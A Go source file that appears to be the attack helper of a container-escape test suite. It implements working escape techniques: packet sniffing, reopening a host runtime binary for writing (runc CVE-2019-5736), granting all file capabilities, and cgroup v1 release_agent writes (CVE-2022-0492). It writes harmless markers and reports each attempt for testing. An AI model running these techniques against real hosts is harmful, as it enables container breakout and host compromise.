// Command escapetool is what the escape suite's attack pods run where
// busybox has no applet: it connects to abstract unix sockets, dials TCP,
// captures on AF_PACKET sockets, watches /proc for a host binary to open
// for writing, sets file capabilities and mounts cgroup v1 hierarchies in
// namespaces of its own. It reports each attempt on stdout, one line each,
// and never stops at a failure: the test decides what a line means.
package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: escapetool abstract|dial|sniff|exewatch|setcap|cgroup|userns-cgroup ARGS...")
		os.Exit(2)
	}
	args := os.Args[2:]
	// The arguments each command needs at least.
	need := map[string]int{"sniff": 3, "exewatch": 2, "setcap": 2, "cgroup": 3, "userns-cgroup": 3}
	if len(args) < need[os.Args[1]] {
		fmt.Fprintf(os.Stderr, "escapetool %s: want %d arguments, have %d\n", os.Args[1], need[os.Args[1]], len(args))
		os.Exit(2)
	}
	switch os.Args[1] {
	case "abstract":
		for _, name := range args {
			abstract(name)
		}
	case "dial":
		for _, addr := range args {
			dial(addr)
		}
	case "sniff":
		sniff(args[0], args[1], mustDuration(args[2]))
	case "exewatch":
		exeWatch(args[0], mustDuration(args[1]))
	case "setcap":
		setcap(args[0], args[1])
	case "cgroup":
		cgroupAttack(args[0], args[1], args[2:])
	case "userns-cgroup":
		usernsCgroup(args)
	default:
		fmt.Fprintf(os.Stderr, "escapetool: unknown command %q\n", os.Args[1])
		os.Exit(2)
	}
}

func mustDuration(s string) time.Duration {
	d, err := time.ParseDuration(s)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	return d
}

// abstract connects to the abstract unix socket @name and reads what it
// says for a second.
func abstract(name string) {
	c, err := net.DialTimeout("unix", "@"+name, 2*time.Second)
	if err != nil {
		fmt.Printf("abstract @%s: %v\n", name, errno(err))
		return
	}
	defer c.Close()
	_ = c.SetReadDeadline(time.Now().Add(time.Second))
	b := make([]byte, 256)
	n, _ := c.Read(b)
	fmt.Printf("abstract @%s: connected, read %q\n", name, b[:n])
}

// dial connects to a TCP address.
func dial(addr string) {
	c, err := net.DialTimeout("tcp", addr, 2*time.Second)
	if err != nil {
		fmt.Printf("dial %s: %v\n", addr, errno(err))
		return
	}
	c.Close()
	fmt.Printf("dial %s: connected\n", addr)
}

// sniff captures every frame of every interface of its network namespace
// (an AF_PACKET socket bound to none) into out, until the file stop
// exists or max passes, at most 64 MiB.
func sniff(out, stop string, max time.Duration) {
	ifs, _ := net.Interfaces()
	var names []string
	for _, i := range ifs {
		names = append(names, i.Name)
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		fmt.Printf("sniff: socket: %v (interfaces %s)\n", err, strings.Join(names, ","))
		return
	}
	defer unix.Close(fd)
	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Usec: 100000})
	f, err := os.Create(out)
	if err != nil {
		fmt.Printf("sniff: %v\n", err)
		return
	}
	defer f.Close()
	fmt.Printf("sniff: capturing on %s\n", strings.Join(names, ","))
	buf := make([]byte, 65536)
	frames, total := 0, 0
	deadline := time.Now().Add(max)
	for time.Now().Before(deadline) && total < 64<<20 {
		if _, err := os.Stat(stop); err == nil {
			break
		}
		n, _, err := unix.Recvfrom(fd, buf, 0)
		if err != nil || n <= 0 {
			continue
		}
		frames++
		total += n
		_, _ = f.Write(buf[:n])
	}
	fmt.Printf("sniff: %d frames, %d bytes\n", frames, total)
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// exeWatch looks at every process it sees in /proc until the file stop
// exists or max passes, and for one
// whose executable is not its own nor busybox (a runtime's binary entering
// the container: runc's CVE-2019-5736), opens that executable for reading,
// then keeps trying to reopen it for writing through the descriptor; on
// success it appends a marker (an ELF binary still runs with it, and its
// hash shows it).
func exeWatch(stop string, max time.Duration) {
	// The container's own programs, whatever their names now.
	var own []os.FileInfo
	for _, p := range []string{"/proc/self/exe", "/bin/busybox"} {
		if fi, err := os.Stat(p); err == nil {
			own = append(own, fi)
		}
	}
	seen := map[string]bool{}
	var held []int
	heldTarget := map[int]string{}
	fmt.Println("exewatch: watching")
	for deadline := time.Now().Add(max); time.Now().Before(deadline); {
		if _, err := os.Stat(stop); err == nil {
			break
		}
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == os.Getpid() {
				continue
			}
			exe := fmt.Sprintf("/proc/%d/exe", pid)
			target, err := os.Readlink(exe)
			fi, statErr := os.Stat(exe)
			if err != nil || statErr != nil || seen[target] || slices.ContainsFunc(own, func(o os.FileInfo) bool { return os.SameFile(o, fi) }) {
				continue
			}
			seen[target] = true
			fd, err := unix.Open(exe, unix.O_RDONLY|unix.O_CLOEXEC, 0)
			fmt.Printf("exewatch: pid %d runs %s: open for reading: %v\n", pid, target, errno(err))
			if err == nil {
				held = append(held, fd)
				heldTarget[fd] = target
			}
			if w, err := unix.Open(exe, unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0); err == nil {
				mark(w, target)
			} else {
				fmt.Printf("exewatch: %s: open for writing: %v\n", target, errno(err))
			}
		}
		for i := 0; i < len(held); i++ {
			if w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", held[i]), unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0); err == nil {
				mark(w, fmt.Sprintf("fd %d", held[i]))
				unix.Close(held[i])
				held = append(held[:i], held[i+1:]...)
				i--
			}
		}
	}
	// Whether each binary still held lies on a read-only mount (runc's
	// fix, or a copy sealed for the container): a writable one is written
	// once nothing runs it any more, which the watch may not live to see.
	for _, fd := range held {
		var st unix.Statfs_t
		err := unix.Fstatfs(fd, &st)
		mode := "writable"
		if st.Flags&unix.ST_RDONLY != 0 {
			mode = "read-only"
		}
		fmt.Printf("exewatch: held %s: its mount is %s (%v)\n", heldTarget[fd], mode, errno(err))
	}
	fmt.Printf("exewatch: done, %d executables seen\n", len(seen))
}

func mark(fd int, what string) {
	_, err := unix.Write(fd, []byte("jetlet-escape"))
	unix.Close(fd)
	fmt.Printf("exewatch: WROTE %s: %v\n", what, errno(err))
}

// setcap gives file a security.capability attribute (revision 2, effective
// bit set) with every capability in its permitted set ("permitted") or in
// its inheritable set ("inheritable").
func setcap(file, set string) {
	const vfsCapRevision2, vfsCapFlagsEffective = 0x02000000, 0x1 // linux/capability.h
	var v [20]byte
	binary.LittleEndian.PutUint32(v[0:], vfsCapRevision2|vfsCapFlagsEffective)
	all := []uint32{0xffffffff, 0xffffffff}
	switch set {
	case "permitted":
		binary.LittleEndian.PutUint32(v[4:], all[0])
		binary.LittleEndian.PutUint32(v[12:], all[1])
	case "inheritable":
		binary.LittleEndian.PutUint32(v[8:], all[0])
		binary.LittleEndian.PutUint32(v[16:], all[1])
	default:
		fmt.Fprintf(os.Stderr, "setcap: want permitted or inheritable, not %q\n", set)
		os.Exit(2)
	}
	err := unix.Setxattr(file, "security.capability", v[:], 0)
	fmt.Printf("setcap %s %s: %v\n", set, file, errno(err))
}

// cgroupAttack mounts each cgroup v1 controller on dir/<controller> and
// writes its release_agent and notify_on_release (CVE-2022-0492); agent is
// what it writes as the release agent.
func cgroupAttack(dir, agent string, controllers []string) {
	for _, c := range controllers {
		mnt := filepath.Join(dir, c)
		_ = os.MkdirAll(mnt, 0o755)
		if err := unix.Mount("cgroup", mnt, "cgroup", 0, c); err != nil {
			fmt.Printf("cgroup %s: mount: %v\n", c, errno(err))
			continue
		}
		fmt.Printf("cgroup %s: mounted\n", c)
		err := os.WriteFile(filepath.Join(mnt, "release_agent"), []byte(agent), 0)
		fmt.Printf("cgroup %s: write release_agent: %v\n", c, errno(err))
		sub := filepath.Join(mnt, "jetlet-escape")
		_ = os.Mkdir(sub, 0o755)
		err = os.WriteFile(filepath.Join(sub, "notify_on_release"), []byte("1"), 0)
		fmt.Printf("cgroup %s: write notify_on_release: %v\n", c, errno(err))
		_ = os.Remove(sub)
		_ = unix.Unmount(mnt, unix.MNT_DETACH)
	}
}

// usernsCgroup runs `cgroup args...` again in new user, mount and cgroup
// namespaces, root in them (unshare -UrmC).
func usernsCgroup(args []string) {
	cmd := exec.Command("/proc/self/exe", append([]string{"cgroup"}, args...)...)
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWCGROUP,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
	}
	if err := cmd.Run(); err != nil {
		fmt.Printf("userns-cgroup: %v\n", errno(err))
	}
}

// errno is err's errno name when it has one ("EPERM"), so that the test
// reads one word; nil is "ok".
func errno(err error) string {
	var e syscall.Errno
	switch {
	case err == nil:
		return "ok"
	case errors.As(err, &e):
		return unix.ErrnoName(e)
	}
	return err.Error()
}
